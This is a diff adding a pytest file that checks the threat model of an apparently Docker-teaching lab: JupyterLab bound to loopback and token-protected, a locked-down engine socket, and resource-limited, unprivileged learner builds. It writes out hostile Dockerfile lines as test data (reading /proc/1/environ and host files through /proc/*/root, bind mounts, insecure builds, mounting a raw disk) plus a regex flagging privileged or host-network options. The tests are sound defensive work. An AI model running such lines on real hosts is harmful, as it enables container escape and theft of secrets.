@@ -1,0 +1,559 @@
+"""What docs/threats.md says: who can reach what, and what an answer can do.
+
+Every test stands for a sentence there.
+"""
+
+import ast
+import json
+import os
+import pathlib
+import re
+import socket
+import stat
+import subprocess
+import sys
+import urllib.error
+import urllib.request
+import uuid
+
+import nbformat
+import psutil
+import pytest
+
+from dockerlab import background, checks, engine, jupyter, paths
+from dockerlab.checks import core
+from dockerlab.engine import box as box_module
+from dockerlab.engine import standins
+from dockerlab.lab import Lab
+
+# -- JupyterLab ---------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def lab_server(tmp_path_factory):
+    """A JupyterLab as `make start` starts it: its process, port, token, and
+    the folder of its files."""
+    home = tmp_path_factory.mktemp("home")
+    found = engine.find()
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("DOCKERLAB_HOME", str(home))
+        url = jupyter.serve(found, port)
+        process, _ = background.find(jupyter.NAME)
+    yield process, port, url.partition("token=")[2], home
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("DOCKERLAB_HOME", str(home))
+        background.end(jupyter.NAME)
+
+
+def _status(url: str, **headers: str) -> int:
+    request = urllib.request.Request(url, headers=headers)
+    try:
+        with urllib.request.urlopen(request, timeout=10) as answer:
+            return answer.status
+    except urllib.error.HTTPError as error:
+        return error.code
+
+
+def test_jupyter_listens_on_loopback_alone(lab_server):
+    process, port, _, _ = lab_server
+    family = [process, *process.children(recursive=True)]
+    listening = [
+        c.laddr
+        for member in family
+        for c in member.net_connections()
+        if c.status == psutil.CONN_LISTEN
+    ]
+    assert port in {address.port for address in listening}
+    assert {address.ip for address in listening} <= {"127.0.0.1", "::1"}
+    for address in _addresses_of_this_machine():
+        with pytest.raises(OSError):
+            socket.create_connection((address, port), timeout=3).close()
+
+
+def _addresses_of_this_machine() -> list[str]:
+    """IPv4 addresses by which others could reach this machine."""
+    return [
+        entry.address
+        for entries in psutil.net_if_addrs().values()
+        for entry in entries
+        if entry.family == socket.AF_INET
+        and not entry.address.startswith("127.")
+    ]
+
+
+@pytest.mark.parametrize(
+    "place",
+    [
+        "api/contents",
+        "api/kernels",
+        "api/terminals",
+        "api/sessions",
+        "files/README.md",
+        "lab",
+    ],
+)
+def test_jupyter_wants_its_token(lab_server, place):
+    _, port, token, _ = lab_server
+    url = f"http://127.0.0.1:{port}/{place}"
+    wrong = "0" * len(token)
+    for headers in ({}, {"Authorization": f"token {wrong}"}):
+        # A page for people sends them to ask for the token.
+        assert _status(url, **headers) == 403 or _led_to_login(url, headers)
+    assert _status(url, Authorization=f"token {token}") == 200
+
+
+def _led_to_login(url: str, headers: dict[str, str]) -> bool:
+    request = urllib.request.Request(url, headers=headers)
+    with urllib.request.urlopen(request, timeout=10) as answer:
+        return "/login" in answer.url
+
+
+def test_jupyter_answers_no_page_from_elsewhere(lab_server):
+    """A name of somebody's site that points to this machine."""
+    _, port, token, _ = lab_server
+    url = f"http://127.0.0.1:{port}/api/contents"
+    keys = {"Authorization": f"token {token}"}
+    assert _status(url, Host="evil.example", **keys) == 403
+
+
+def test_nobody_else_can_read_the_token(lab_server):
+    process, _, token, home = lab_server
+    assert len(token) >= 32
+    assert not any(token in word for word in process.cmdline())
+    for path in home.iterdir():
+        if token in path.read_text(errors="replace"):
+            assert path.stat().st_mode & 0o077 == 0, path
+
+
+# -- the engine, the registry and the index -----------------------------
+
+
+@pytest.fixture
+def box():
+    found = engine.find()
+    if found.kind != "box":
+        pytest.skip("tests of the box run where the box is the engine")
+    return found.box
+
+
+def test_the_engine_is_its_owners(box):
+    """No address: a socket that nobody else may open, in a closed folder."""
+    for path, mode in ((box.socket, 0o600), (box.runtime, 0o700)):
+        found = path.stat()
+        assert found.st_uid == os.getuid()
+        assert stat.S_IMODE(found.st_mode) == mode
+
+
+def test_another_user_cannot_open_the_socket(box):
+    if os.getuid() != 0:
+        pytest.skip("needs root, to become another user")
+    ask = (
+        "import os, socket, sys; os.setgid(65534); os.setuid(65534);"
+        "socket.socket(socket.AF_UNIX).connect(sys.argv[1])"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", ask, str(box.socket)],
+        capture_output=True,
+        text=True,
+    )
+    assert "PermissionError" in done.stderr
+
+
+def _listening(box) -> set[tuple[str, int]]:
+    """Where programs listen in the box's network: address and port."""
+    done = subprocess.run(
+        box.inside(["cat", "/proc/net/tcp", "/proc/net/tcp6"]),
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    rows = [line.split() for line in done.stdout.splitlines()]
+    found = set()
+    for row in rows:
+        if len(row) > 3 and row[3] == "0A":
+            raw, port = row[1].split(":")
+            family = socket.AF_INET if len(raw) == 8 else socket.AF_INET6
+            packed = b"".join(
+                bytes.fromhex(raw[i : i + 8])[::-1]
+                for i in range(0, len(raw), 8)
+            )
+            found.add((socket.inet_ntop(family, packed), int(port, 16)))
+    return found
+
+
+def test_registry_and_index_listen_inside_alone(box):
+    """The registry on the box's loopback, the index on its bridge, and no
+    engine on any port."""
+    listening = _listening(box)
+    assert ("127.0.0.1", box_module.REGISTRY_PORT) in listening
+    assert ("172.17.0.1", standins.INDEX_PORT) in listening
+    others = {ip for ip, _ in listening} - {"127.0.0.1", "172.17.0.1"}
+    swarm = {port for ip, port in listening if ip in others}
+    # A lesson on Swarm makes its engine listen, in the box's network.
+    assert swarm <= {2377, 7946}
+
+
+def test_they_do_not_listen_on_this_machine(box):
+    ports = {box_module.REGISTRY_PORT, standins.INDEX_PORT, 2375, 2376}
+    end = f"{box.network}.{box.first + 1}"
+    for address in ("127.0.0.1", end, *_addresses_of_this_machine()):
+        for port in ports:
+            if address == "127.0.0.1" and _is_mine(port):
+                continue  # published by a container of somebody's
+            with pytest.raises(OSError):
+                socket.create_connection((address, port), timeout=2).close()
+
+
+def _is_mine(port: int) -> bool:
+    return any(
+        c.laddr.port == port and c.status == psutil.CONN_LISTEN
+        for c in psutil.net_connections("tcp")
+    )
+
+
+def test_another_machine_finds_no_way_in(box):
+    """Its packets might come; an answer finds no way back."""
+    done = subprocess.run(
+        box.inside(["ip", "-4", "route", "show", "default"]),
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert done.stdout.strip() == ""
+    routed = subprocess.run(
+        box.inside(["ip", "-4", "route", "get", "192.0.2.77"]),
+        capture_output=True,
+        text=True,
+    )
+    assert routed.returncode != 0
+
+
+def test_published_ports_listen_on_loopback(box):
+    """Whatever address was asked for."""
+    lab = Lab("94")
+    container = lab.client.containers.run(
+        "python:3.13-slim",
+        ["python", "-m", "http.server", "80"],
+        labels=lab.labels,
+        ports={"80/tcp": ("0.0.0.0", None)},
+        detach=True,
+    )
+    try:
+        container.reload()
+        port = int(container.ports["80/tcp"][0]["HostPort"])
+        found = {
+            c.laddr.ip
+            for c in psutil.net_connections("tcp")
+            if c.laddr.port == port and c.status == psutil.CONN_LISTEN
+        }
+        assert found == {"127.0.0.1"}
+    finally:
+        lab.close()
+
+
+# -- what runs, and with which rights -----------------------------------
+
+POWERS = {
+    "privileged",
+    "cap_add",
+    "devices",
+    "device_requests",
+    "network_mode",
+    "network",
+    "pid_mode",
+    "ipc_mode",
+    "uts_mode",
+    "userns_mode",
+    "cgroupns",
+    "security_opt",
+    "binds",
+}
+HARMLESS = {"none", "bridge", "no-new-privileges", "private"}
+
+
+def _sources() -> list[pathlib.Path]:
+    return sorted((paths.PROJECT / "dockerlab").rglob("*.py"))
+
+
+def _texts(node: ast.AST) -> list[object]:
+    return [n.value for n in ast.walk(node) if isinstance(n, ast.Constant)]
+
+
+@pytest.mark.parametrize("path", _sources(), ids=lambda path: path.stem)
+def test_our_code_asks_for_no_powers(path):
+    """No privileged container, no host network, no host folder."""
+    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
+        if isinstance(node, ast.Call):
+            for keyword in node.keywords:
+                if keyword.arg in POWERS and isinstance(
+                    keyword.value, (ast.Constant, ast.List)
+                ):
+                    texts = set(_texts(keyword.value))
+                    assert texts <= HARMLESS | {False, None}, node.lineno
+        if isinstance(node, ast.Constant) and isinstance(node.value, str):
+            words = r"--privileged|--cap-add|--(net|network|pid|ipc)[= ]host"
+            assert not re.search(words, node.value), node.lineno
+            assert not re.fullmatch(
+                r"/:/\w+.*|/var/run/docker\.sock:.*", node.value
+            ), node.lineno
+
+
+def test_a_privileged_container_says_so():
+    """In a lesson, the text before it tells what it may do and why."""
+    for path in paths.lessons():
+        before = ""
+        for cell in nbformat.read(path, as_version=4).cells:
+            asks = re.search(r"--privileged|privileged=True", cell.source)
+            if cell.cell_type == "code" and asks:
+                assert "privileged" in before, (path.stem, cell.id)
+            if cell.cell_type == "markdown":
+                before = cell.source
+
+
+# -- answers that want more than they get -------------------------------
+
+STEAL = "cat SECRET /proc/1/root/SECRET /proc/1/environ > /stolen 2>&1"
+
+
+@pytest.fixture
+def secret(tmp_path):
+    """A file of the learner's, at a path that the box shares."""
+    path = tmp_path / "secret"
+    path.write_text(f"secret-{uuid.uuid4()}")
+    path.chmod(0o600)
+    return path
+
+
+@pytest.fixture
+def bench():
+    lab = Lab("94")
+    bench = core.Bench("94", lab.client)
+    yield bench
+    bench.close()
+    lab.close()
+
+
+READS = {
+    "by its path": f"RUN {STEAL}; true",
+    "as root of the machine": "RUN ls / /proc/*/root/tmp > /stolen 2>&1; "
+    "cat /proc/*/root/SECRET >> /stolen 2>&1; true",
+    "from outside the context": "COPY ../../../../SECRET /stolen",
+    "by an address": "ADD file:///SECRET /stolen",
+    "by a bind mount": "RUN --mount=type=bind,source=/SECRET,target=/m"
+    " cat /m > /stolen",
+    "by a bind mount of an image": "RUN --mount=type=bind,from=debian:"
+    "trixie-slim,source=/,target=/m cat /m/SECRET > /stolen 2>&1; true",
+    "by a secret": "RUN --mount=type=secret,id=x,target=/m"
+    " cat /m SECRET > /stolen 2>&1; true",
+    "by the agent": f"RUN --mount=type=ssh env > /stolen; {STEAL}; true",
+    "with all rights": f"RUN --security=insecure {STEAL}; true",
+    "by the machine's network": "RUN --network=host cat /proc/net/unix"
+    " > /stolen",
+    "by mounting a disk": "RUN (mknod /disk b 8 0 && mkdir /d && "
+    "mount /disk /d && cat /d/SECRET) > /stolen 2>&1; true",
+}
+
+
+@pytest.mark.parametrize("way", READS)
+def test_a_build_reads_nothing_of_the_host(way, bench, secret):
+    steal = READS[way].replace("SECRET", str(secret).lstrip("/"))
+    text = f"FROM debian:trixie-slim\n{steal}\nCMD cat /stolen\n"
+    built, hint = bench.try_build(text)
+    assert secret.read_text() not in hint
+    if built:
+        container = bench.run(bench.tags[-1])
+        assert bench.wait(container) is not None
+        assert secret.read_text() not in container.logs().decode()
+    assert secret.exists()
+
+
+def test_a_build_has_no_power_over_the_box(bench):
+    """Neither more capabilities than Docker's usual ones, nor the host's
+    network."""
+    text = (
+        "FROM debian:trixie-slim\n"
+        "RUN grep CapEff /proc/self/status > /power && ls /dev >> /power\n"
+        "CMD cat /power\n"
+    )
+    built, hint = bench.try_build(text)
+    assert built, hint
+    container = bench.run(bench.tags[-1])
+    bench.wait(container)
+    caps, *devices = container.logs().decode().splitlines()
+    admin = 1 << 21  # CAP_SYS_ADMIN, capability.h
+    assert int(caps.split()[1], 16) & admin == 0
+    assert not {"kvm", "mem", "sda", "vda"} & set(devices)
+
+
+@pytest.mark.parametrize("network", ["RUN --network=host", "RUN"])
+def test_a_build_does_not_see_the_machines_network(network, bench):
+    text = (
+        "FROM python:3.13-slim\n"
+        f"{network} python -c 'import socket;"
+        " print(*(n for _, n in socket.if_nameindex()))' > /links\n"
+        "CMD cat /links\n"
+    )
+    built, _ = bench.try_build(text)
+    if built:
+        container = bench.run(bench.tags[-1])
+        bench.wait(container)
+        links = set(container.logs().decode().split())
+        assert not links & (set(psutil.net_if_addrs()) - {"lo", "eth0"})
+
+
+def test_a_foreign_frontend_is_no_way_in(bench):
+    """`# syntax=` runs an image as the builder's frontend: in a container,
+    and where it cannot be had the answer fails with the builder's words."""
+    text = (
+        "# syntax=dockerlab-nowhere.example/evil:1\n"
+        "FROM debian:trixie-slim\nRUN true\n"
+    )
+    built, hint = bench.try_build(text)
+    assert built is None
+    assert "evil" in hint
+
+
+@pytest.mark.parametrize(
+    "id", ["00-first-image", "03-order", "06-port", "06-no-tests"]
+)
+def test_the_checks_of_lessons_give_nothing_away(id, secret):
+    """A malicious answer to a real exercise."""
+    lab = Lab(id[:2])
+    secret_path = str(secret).lstrip("/")
+    steal = STEAL.replace("SECRET", secret_path)
+    text = (
+        "FROM python:3.13-slim\n"
+        f"RUN {steal}; cat /stolen\n"
+        "COPY . /context\n"
+        f"RUN rm -rf /{secret_path} /proc/1/root/{secret_path}; true\n"
+        f'CMD ["sh", "-c", "{steal}; cat /stolen"]\n'
+    )
+    try:
+        report = checks.check(id, text)
+    finally:
+        lab.close()
+    assert not report.passed
+    assert secret.read_text() not in repr(report) + report._repr_html_()
+    assert secret.exists()
+
+
+def test_what_an_answer_runs_is_limited(bench):
+    container = bench.run("debian:trixie-slim", command=["sleep", "5"])
+    container.reload()
+    settings = container.attrs["HostConfig"]
+    assert 0 < settings["Memory"] <= 512e6
+    assert 0 < settings["NanoCpus"] <= 2e9
+    assert 0 < settings["PidsLimit"] <= 512
+    assert not settings["Privileged"]
+    assert not settings["Binds"]
+    assert not settings["CapAdd"]
+    assert settings["NetworkMode"] in ("default", "bridge")
+    assert settings["PidMode"] == ""
+    limits = {limit.partition("=")[0] for limit in core.BUILD_LIMITS}
+    assert limits >= {"data", "cpu"}
+    assert core.BUILD_SECONDS <= 120
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        {"privileged": True},
+        {"network_mode": "host"},
+        {"network_mode": "container:other"},
+        {"pid_mode": "host"},
+        {"cap_add": ["SYS_ADMIN"]},
+        {"devices": ["/dev/null:/dev/x"]},
+        {"volumes": ["/etc:/host"]},
+        {"volumes": {"/etc": {"bind": "/host", "mode": "ro"}}},
+        {"security_opt": ["seccomp=unconfined"]},
+    ],
+    ids=str,
+)
+def test_a_bench_refuses_powers(bench, options):
+    with pytest.raises(ValueError, match="check"):
+        bench.run("debian:trixie-slim", command=["true"], **options)
+
+
+def test_a_bench_refuses_a_volume_that_is_a_folder_of_the_host(bench):
+    """A named volume may stand for any folder."""
+    device = {"type": "none", "o": "bind", "device": "/etc"}
+    name = f"dockerlab-94-{bench.token}"
+    volume = bench.client.volumes.create(name, driver_opts=device)
+    try:
+        with pytest.raises(ValueError, match="check"):
+            bench.run(
+                "debian:trixie-slim",
+                command=["true"],
+                volumes={name: {"bind": "/x", "mode": "ro"}},
+            )
+    finally:
+        volume.remove()
+
+
+# -- our own dependencies and Dockerfiles -------------------------------
+
+# A vulnerability that we know and leave: id -> why it does no harm here.
+EXPLAINED: dict[str, str] = {}
+
+
+def _tool(name: str) -> pathlib.Path:
+    return pathlib.Path(sys.executable).with_name(name)
+
+
+@pytest.mark.parametrize(
+    "file", ["requirements.txt", "sample_app/requirements.txt"]
+)
+def test_our_dependencies_have_no_known_vulnerability(file):
+    command = [_tool("pip-audit"), "--requirement", paths.PROJECT / file]
+    command += ["--disable-pip", "--no-deps", "--format", "json"]
+    command += ["--progress-spinner", "off", "--timeout", "10"]
+    try:
+        done = subprocess.run(
+            command, capture_output=True, text=True, timeout=150
+        )
+        rows = json.loads(done.stdout)["dependencies"]
+    except (subprocess.TimeoutExpired, ValueError):
+        pytest.skip("pip-audit reaches no service of advisories from here")
+    looked_at = [row for row in rows if "skip_reason" not in row]
+    if not looked_at:
+        pytest.skip(f"pip-audit: {rows[0]['skip_reason']}")
+    found = {
+        f"{row['name']} {row['version']}: {vulnerability['id']}"
+        for row in looked_at
+        for vulnerability in row["vulns"]
+        if vulnerability["id"] not in EXPLAINED
+    }
+    assert found == set()
+
+
+# What a finding teaches, or why it is left.
+LEFT = {
+    # The recipe of 2017, kept as it was: lesson 07 mends it.
+    ("sample_app/Dockerfile.classic", "DL3042"),
+}
+
+
+def _dockerfiles() -> list[str]:
+    return sorted(
+        str(path.relative_to(paths.PROJECT))
+        for folder in ("sample_app", "capstone")
+        for path in (paths.PROJECT / folder).rglob("Dockerfile*")
+        if path.is_file()
+    )
+
+
+@pytest.mark.parametrize("file", _dockerfiles())
+def test_our_dockerfiles_have_no_findings(file):
+    done = subprocess.run(
+        [_tool("hadolint"), "--format=json", "--no-fail", file],
+        cwd=paths.PROJECT,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    found = {(file, row["code"]) for row in json.loads(done.stdout)}
+    assert found <= LEFT
+    assert {row for row in LEFT if row[0] == file} <= found, "no longer found"
